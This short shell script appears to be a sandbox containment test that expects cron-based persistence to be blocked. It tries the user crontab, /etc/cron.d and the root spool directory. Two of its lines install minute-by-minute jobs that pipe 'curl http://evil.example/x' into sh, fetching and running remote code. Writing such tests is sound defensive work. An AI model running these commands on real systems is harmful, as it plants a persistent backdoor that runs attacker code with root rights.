# expect: contained
# Persistence through cron: crontab, /etc/cron.d, the spool directory.
echo '* * * * * curl http://evil.example/x | sh' | crontab - 2>&1; echo "crontab: $?"
echo '* * * * * root curl http://evil.example/x | sh' > /etc/cron.d/sentry-hostile 2>&1; echo "cron.d: $?"
mkdir -p /var/spool/cron/crontabs 2>&1
echo '* * * * * id' > /var/spool/cron/crontabs/root 2>&1; echo "spool: $?"
